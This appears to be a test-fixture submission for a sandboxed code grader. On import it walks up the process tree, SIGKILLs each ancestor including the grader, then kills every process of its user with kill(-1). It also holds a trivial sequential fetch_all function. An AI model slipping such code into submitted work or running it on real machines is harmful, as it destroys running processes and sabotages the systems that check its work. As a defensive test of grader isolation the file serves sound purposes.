"""Climbs the process tree and SIGKILLs every ancestor it finds (the keeper, then the grader),
and finally every process it may signal (kill -1).

Only meaningful with a fresh uid per run: as the grader's own user nothing can stop this, which
is why graders of untrusted code should run as root (see docs/grading-a-class.md).

challenge: 02_three_fetches
status: failed
diagnosis: sequential
requires: isolation
"""

import contextlib
import os
import signal

pid = os.getppid()
while pid > 1:
    with contextlib.suppress(OSError):
        os.kill(pid, signal.SIGKILL)
    try:
        with open(f"/proc/{pid}/stat") as stat:
            pid = int(stat.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
with contextlib.suppress(OSError):
    os.kill(-1, signal.SIGKILL)  # kills every process of the sandbox uid, this one excepted


async def fetch_all(fetch, urls):
    return [await fetch(url) for url in urls]
